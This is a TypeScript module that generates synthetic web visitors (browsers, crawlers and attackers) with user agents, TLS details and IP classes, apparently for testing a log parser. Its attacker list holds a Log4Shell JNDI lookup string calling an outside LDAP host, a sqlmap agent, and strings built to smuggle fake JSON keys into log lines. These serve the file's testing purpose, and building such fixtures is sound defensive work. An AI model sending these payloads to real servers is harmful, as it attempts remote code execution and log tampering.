import { PLACES, type Place } from '../places.ts';
import { createDice, type Dice, mix } from '../random.ts';

/** Who sends requests: a browser, a crawler or an attacker. */
export type VisitorKind = 'human' | 'crawler' | 'attacker';

/** A client; texts that end in `Json` are already JSON text, so that a line costs little. */
export interface Visitor {
  readonly kind: VisitorKind;
  readonly place: Place;
  readonly country: string;
  readonly addressJson: string;
  readonly ipClass: string;
  readonly userAgentJson: string;
  readonly device: string;
  readonly botCategory: string;
  readonly protocol: string;
  /** `none` where there is no TLS. */
  readonly tls: string;
  readonly cipher: string;
  readonly ja3: string;
  readonly ja4: string;
  readonly roundTripMs: number;
}

const HUMANS = [
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36', 'desktop'],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15', 'desktop'],
  ['Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0', 'desktop'],
  ['Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1', 'mobile'],
  ['Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36', 'mobile'],
  ['Mozilla/5.0 (iPad; CPU OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/604.1', 'tablet'],
  ['ExampleShop/4.2 (Ünïcödé; Köln)', 'mobile'],
] as const;

const CRAWLERS = [
  ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Search Engine Crawler'],
  ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 'Search Engine Crawler'],
  ['Mozilla/5.0 (compatible; ExampleMonitor/1.0; +https://status.example.com)', 'Monitoring & Analytics'],
  ['Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ExampleAIBot/1.1)', 'AI Crawler'],
] as const;

const ATTACKERS = [
  'curl/8.9.1',
  'python-requests/2.32.3',
  '',
  'sqlmap/1.8.9#stable (https://sqlmap.org)',
  // A text that looks like a key of the line itself: cutting values out of raw bytes must not fall for it.
  'x","RayID":"x',
  '\\","EdgeStartTimestamp":1,"',
  '${jndi:ldap://198.51.100.1/a}',
  'Mozilla/5.0\t(tab\u0001and\u2028separator)',
] as const;

const CIPHERS = ['AEAD-AES128-GCM-SHA256', 'AEAD-AES256-GCM-SHA384', 'ECDHE-ECDSA-AES128-GCM-SHA256'] as const;

/** The clients of a zone, by kind. */
export function createVisitors(salt: number): Readonly<Record<VisitorKind, readonly Visitor[]>> {
  const make = (kind: VisitorKind, count: number): readonly Visitor[] =>
    Array.from({ length: count }, (_, index) => drawVisitor(kind, createDice(mix(mix(salt, kind.length), index))));
  return { human: make('human', 1500), crawler: make('crawler', 40), attacker: make('attacker', 120) };
}

function drawVisitor(kind: VisitorKind, dice: Dice): Visitor {
  const place = dice.pick(PLACES);
  const encrypted = dice.chance(kind === 'attacker' ? 0.7 : 0.98);
  const ja3 = dice.hex(32);
  return {
    kind,
    place,
    country: kind === 'attacker' && dice.chance(0.15) ? dice.pick(['xx', 't1', '']) : place.country,
    addressJson: JSON.stringify(place.toAddress(dice.next())),
    ...drawAgent(kind, dice),
    protocol: encrypted ? dice.pick(['HTTP/2', 'HTTP/2', 'HTTP/3', 'HTTP/1.1']) : 'HTTP/1.1',
    tls: encrypted ? dice.pick(['TLSv1.3', 'TLSv1.3', 'TLSv1.3', 'TLSv1.2']) : 'none',
    cipher: encrypted ? dice.pick(CIPHERS) : 'NONE',
    ja3: encrypted ? ja3 : '',
    ja4: encrypted ? `t13d1516h2_${ja3.slice(0, 12)}_${ja3.slice(12, 24)}` : '',
    roundTripMs: 3 + dice.below(180),
  };
}

function drawAgent(kind: VisitorKind, dice: Dice): Pick<Visitor, 'userAgentJson' | 'device' | 'botCategory' | 'ipClass'> {
  if (kind === 'human') {
    const [agent, device] = dice.pick(HUMANS);
    return { userAgentJson: JSON.stringify(agent), device, botCategory: '', ipClass: dice.pick(['noRecord', 'noRecord', 'noRecord', 'unknown', 'allowlist']) };
  }
  if (kind === 'crawler') {
    const [agent, botCategory] = dice.pick(CRAWLERS);
    return {
      userAgentJson: JSON.stringify(agent),
      device: 'desktop',
      botCategory,
      ipClass: botCategory.startsWith('Search') ? 'searchEngine' : 'monitoringService',
    };
  }
  return {
    userAgentJson: JSON.stringify(dice.pick(ATTACKERS)),
    device: 'desktop',
    botCategory: '',
    ipClass: dice.pick(['badHost', 'scan', 'tor', 'noRecord', 'unknown']),
  };
}
